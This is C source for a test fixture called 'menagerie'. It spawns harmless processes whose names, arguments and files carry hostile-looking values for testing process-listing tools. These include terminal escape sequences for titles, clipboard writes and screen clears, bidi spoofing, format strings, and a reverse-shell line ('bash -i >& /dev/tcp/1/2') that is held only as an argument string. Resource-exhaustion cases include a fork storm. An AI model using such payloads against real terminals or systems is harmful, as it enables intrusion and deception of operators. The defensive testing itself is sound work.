/* SPDX-License-Identifier: MIT */
/*
 * menagerie DIRECTORY - harmless processes whose names, arguments, files and numbers
 * are what an attacker would choose: each row of the table is one. Prints "PID KIND"
 * a line, waits for the end of its input, lets them go.
 *
 * All that they say holds the word PAYLOAD where a terminal would obey what stands
 * beside it. To be run in a pid namespace of its own.
 */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum {
    READY = 100, /* descriptors that outlive exec: a byte is written to, ... */
    HOLD = 101,  /* ... and the end of this is waited for */
    PAGE = 4096,
    PATH_LONG = 5000,
};

static const char *directory; /* for files */
static char self[PAGE];

/* --- what a row calls --- */

static void be_ready(void)
{
    if (write(READY, "", 1) != 1)
        _exit(1);
}

_Noreturn static void wait_for_end(void)
{
    char byte;

    be_ready();
    while (read(HOLD, &byte, 1) < 0 && errno == EINTR)
        ;
    _exit(0);
}

/* This program again, which then waits: "kept" is what main() looks for. */
_Noreturn static void exec_with(const char *file, char *const arguments[])
{
    static char kept[] = "MENAGERIE=kept";
    char *environment[] = {kept, NULL};

    execve(file, arguments, environment);
    _exit(127);
}

_Noreturn static void exec_as(const char *file)
{
    static char name[] = "animal";
    char *arguments[] = {name, NULL};

    exec_with(file, arguments);
}

static void copy_to(int to)
{
    int from = open(self, O_RDONLY | O_CLOEXEC);
    ssize_t sent;

    while ((sent = sendfile(to, from, NULL, PAGE)) > 0)
        ;
    if (from < 0 || sent < 0)
        _exit(1);
    close(from);
}

/* A copy of this program; a descriptor to it. */
static int new_file(const char *name)
{
    int fd = open(name, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0700);

    copy_to(fd);
    return fd;
}

static void raise_descriptors(rlim_t wanted)
{
    struct rlimit limit = {wanted, wanted};

    if (setrlimit(RLIMIT_NOFILE, &limit) == 0)
        return;
    if (getrlimit(RLIMIT_NOFILE, &limit) == 0) {
        limit.rlim_cur = limit.rlim_max;
        setrlimit(RLIMIT_NOFILE, &limit);
    }
}

/* --- names --- */

static void be_named(const char *name)
{
    prctl(PR_SET_NAME, name);
    wait_for_end();
}

/* The executable's name, and so the process's. */
static void be_file(const char *name)
{
    close(new_file(name));
    exec_as(name);
}

static void be_memfd(const char *name)
{
    char link[64];
    int fd = memfd_create(name, 0);

    copy_to(fd);
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    exec_as(link);
}

static void be_called(const char *argument)
{
    char *arguments[] = {(char *)(uintptr_t)argument, (char *)(uintptr_t)argument, NULL};

    exec_with(self, arguments);
}

/* --- sizes --- */

/* As many arguments of 100 KiB as the kernel takes. */
static void be_long(const char *unused)
{
    enum { PIECE = 100 << 10, PIECES = 18 };
    static char pieces[PIECES][PIECE];
    char *arguments[PIECES + 2] = {self};

    (void)unused;
    setrlimit(RLIMIT_STACK, &(struct rlimit){64 << 20, 64 << 20});
    for (int i = 0; i < PIECES; i++) {
        memset(pieces[i], i % 2 ? '\n' : '\x1b', PIECE - 1);
        arguments[i + 1] = pieces[i];
    }
    exec_with(self, arguments);
}

static void be_empty_arguments(const char *unused)
{
    enum { COUNT = 20000 };
    static char *arguments[COUNT + 1];
    static char nothing[1];

    (void)unused;
    for (int i = 0; i < COUNT; i++)
        arguments[i] = nothing;
    exec_with(self, arguments);
}

static void be_without_arguments(const char *unused)
{
    char *arguments[] = {NULL};

    (void)unused;
    exec_with(self, arguments);
}

/* The path is longer than any buffer of PATH_MAX. */
static void be_deep(const char *unused)
{
    static char name[201];

    (void)unused;
    memset(name, 'd', sizeof name - 1);
    for (size_t length = 0; length < PATH_LONG; length += sizeof name)
        if ((mkdir(name, 0700) < 0 && errno != EEXIST) || chdir(name) < 0)
            _exit(1);
    close(new_file("deep"));
    exec_as("deep");
}

static void be_huge(const char *name)
{
    int fd = new_file(name);

    if (ftruncate(fd, (off_t)50 << 30) < 0)
        _exit(1);
    close(fd);
    exec_as(name);
}

static void have_descriptors(const char *unused)
{
    (void)unused;
    raise_descriptors(100000);
    while (dup(HOLD) >= 0)
        ;
    wait_for_end();
}

static void have_sockets(const char *unused)
{
    (void)unused;
    raise_descriptors(20000);
    while (socket(AF_INET, SOCK_DGRAM, 0) >= 0)
        ;
    wait_for_end();
}

/* Two areas that cannot be joined for each step, up to vm.max_map_count. */
static void have_maps(const char *unused)
{
    (void)unused;
    for (int i = 0; i < 70000; i++)
        if (mmap(NULL, PAGE, i % 2 ? PROT_READ : PROT_READ | PROT_WRITE,
                 MAP_PRIVATE | MAP_ANONYMOUS, -1, 0) == MAP_FAILED)
            break;
    wait_for_end();
}

static void *sleep_for_ever(void *unused)
{
    for (;;)
        pause();
    return unused;
}

static void have_threads(const char *unused)
{
    pthread_attr_t attributes;
    pthread_t thread;

    (void)unused;
    pthread_attr_init(&attributes);
    pthread_attr_setstacksize(&attributes, (size_t)16 << 10);
    for (int i = 0; i < 2000; i++)
        if (pthread_create(&thread, &attributes, sleep_for_ever, NULL) != 0)
            break;
    wait_for_end();
}

static void *outlive(void *unused)
{
    (void)unused;
    wait_for_end();
}

/* The first thread is a zombie, the process is not. */
static void be_headless(const char *unused)
{
    pthread_t thread;

    (void)unused;
    pthread_create(&thread, NULL, outlive, NULL);
    pthread_exit(NULL);
}

static void have_zombies(const char *name)
{
    prctl(PR_SET_NAME, name);
    for (int i = 0; i < 500; i++)
        if (fork() == 0)
            _exit(0);
    wait_for_end();
}

static void be_generations(const char *unused)
{
    (void)unused;
    for (int depth = 0; depth < 300; depth++) {
        pid_t child = fork();
        if (child != 0) {
            prctl(PR_SET_NAME, "generation");
            waitpid(child, NULL, 0);
            _exit(0);
        }
        prctl(PR_SET_PDEATHSIG, SIGKILL);
    }
    wait_for_end();
}

/* --- motion --- */

/* Lives on, each time as another process. */
static void hop(const char *name)
{
    prctl(PR_SET_NAME, name);
    be_ready();
    for (;;) {
        nanosleep(&(struct timespec){.tv_nsec = 300000}, NULL);
        /* The end of HOLD is seen without waiting for it. */
        char byte;
        if (recv(HOLD, &byte, 1, MSG_DONTWAIT) == 0 || fork() != 0)
            _exit(0);
    }
}

static void storm(const char *name)
{
    char byte;

    prctl(PR_SET_NAME, name);
    signal(SIGCHLD, SIG_IGN);
    be_ready();
    while (recv(HOLD, &byte, 1, MSG_DONTWAIT) != 0) {
        if (fork() == 0)
            _exit(0);
        nanosleep(&(struct timespec){.tv_nsec = 1000000}, NULL);
    }
    _exit(0);
}

/* Asleep in the kernel, and no signal but one wakes it. */
static void be_vfork_parent(const char *unused)
{
    (void)unused;
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wdeprecated-declarations"
    if (vfork() == 0)
        wait_for_end();
#pragma GCC diagnostic pop
    _exit(0);
}

static void be_stopped(const char *unused)
{
    (void)unused;
    be_ready();
    raise(SIGSTOP);
    _exit(0);
}

static void be_in_a_namespace(const char *unused)
{
    (void)unused;
    for (int depth = 0; depth < 20 && unshare(CLONE_NEWUSER) == 0; depth++)
        ;
    wait_for_end();
}

/* --- the table --- */

#define TITLE     "\033]0;PAYLOAD\a"
#define CLIPBOARD "\033]52;c;UEFZTE9BRA==\a"

static const struct animal {
    const char *kind;
    void (*live)(const char *argument);
    const char *argument;
} animals[] = {
    {"comm-newline",   be_named,             "a\nPAYLOAD"                       },
    {"comm-bracket",   be_named,             "x) R 1 1 (1"                      },
    {"comm-blank",     be_named,             " \t "                             },
    {"comm-empty",     be_named,             ""                                 },
    {"comm-format",    be_named,             "%n%n%s%s%1000d"                   },
    {"comm-lines",     be_named,             "\nUid:\t0\t0\t0\t0"               },
    {"comm-title",     be_named,             TITLE                              },
    {"comm-clear",     be_named,             "\033[2J\033[H"                    },
    {"comm-c1",        be_named,
     "\x9b"
     "2J\xc2\x9b"
     "31m"                                                                      },
    {"comm-bidi",      be_named,
     "\xe2\x80\xae"
     "daolyap"                                                                  },
    {"comm-invalid",   be_named,             "\xff\xfe\xc3(\xe2\x82"            },
    {"comm-wide",      be_named,             "漢字漢字"                     },
    {"comm-combining", be_named,             "e\xcc\x81\xcc\x81\xcc\x81\xcc\x81"},
    {"comm-kthread",   be_named,             "kworker/0:0"                      },
    {"comm-path",      be_named,             "/usr/sbin/sshd"                   },
    {"exe-newline",    be_file,              "new\nline PAYLOAD"                },
    {"exe-title",      be_file,              TITLE                              },
    {"exe-bidi",       be_file,              "a\xe2\x80\xaegnp.exe"             },
    {"exe-deleted",    be_file,              "x (deleted)"                      },
    {"exe-memfd",      be_memfd,             "m" TITLE                          },
    {"exe-deep",       be_deep,              NULL                               },
    {"exe-huge",       be_huge,              "huge"                             },
    {"argv-title",     be_called,            "a" TITLE "b\nc\td"                },
    {"argv-clipboard", be_called,            CLIPBOARD                          },
    {"argv-bidi",      be_called,            "rm \xe2\x80\xae\xe2\x81\xa6x"     },
    {"argv-c1",        be_called,
     "\x9d"
     "0;PAYLOAD\x9c\xc2\x9d"
     "0;P"                                                                      },
    {"argv-evil",      be_called,
     "sh -c 'eval $(echo " TITLE "|base64 -d)|bash -i >& /dev/tcp/1/2'"         },
    {"argv-secret",    be_called,            "--password=PAYLOAD-SECRET"        },
    {"argv-long",      be_long,              NULL                               },
    {"argv-many",      be_empty_arguments,   NULL                               },
    {"argv-none",      be_without_arguments, NULL                               },
    {"descriptors",    have_descriptors,     NULL                               },
    {"sockets",        have_sockets,         NULL                               },
    {"maps",           have_maps,            NULL                               },
    {"threads",        have_threads,         NULL                               },
    {"headless",       be_headless,          NULL                               },
    {"zombies",        have_zombies,         "z" TITLE                          },
    {"generations",    be_generations,       NULL                               },
    {"vfork",          be_vfork_parent,      NULL                               },
    {"stopped",        be_stopped,           NULL                               },
    {"namespaces",     be_in_a_namespace,    NULL                               },
    {"storm",          storm,                "storm"                            },
    {"hopper",         hop,                  "hopper"                           },
};
enum { ANIMAL_COUNT = sizeof animals / sizeof *animals };

static pid_t start(const struct animal *animal, int ready, int hold, int release)
{
    pid_t child = fork();

    if (child != 0)
        return child;
    close(release);
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    setsid();
    if (chdir(directory) < 0 || dup2(ready, READY) < 0 || dup2(hold, HOLD) < 0)
        _exit(1);
    close(ready);
    close(hold);
    animal->live(animal->argument);
    _exit(1);
}

/* False when it cannot be on this machine. */
static bool await_ready(int fd)
{
    char byte;
    ssize_t got;

    do
        got = read(fd, &byte, 1);
    while (got < 0 && errno == EINTR);
    return got == 1;
}

int main(int argc, char **argv)
{
    pid_t pids[ANIMAL_COUNT];
    int hold[2];
    char byte;
    ssize_t length;

    if (getenv("MENAGERIE"))
        wait_for_end();
    length = readlink("/proc/self/exe", self, sizeof self - 1);
    if (argc != 2 || length < 0 || socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, hold) < 0)
        return 2;
    directory = argv[1];
    for (size_t i = 0; i < ANIMAL_COUNT; i++) {
        int ready[2];
        if (pipe2(ready, O_CLOEXEC) < 0)
            return 2;
        pids[i] = start(&animals[i], ready[1], hold[0], hold[1]);
        close(ready[1]);
        if (await_ready(ready[0]))
            printf("%d %s\n", pids[i], animals[i].kind);
        else
            fprintf(stderr, "menagerie: no %s here\n", animals[i].kind);
        close(ready[0]);
    }
    printf("all\n");
    fflush(stdout);
    while (read(STDIN_FILENO, &byte, 1) > 0)
        ;
    close(hold[1]);
    for (size_t i = 0; i < ANIMAL_COUNT; i++) {
        kill(pids[i], SIGKILL);
        waitpid(pids[i], NULL, 0);
    }
    return 0;
}
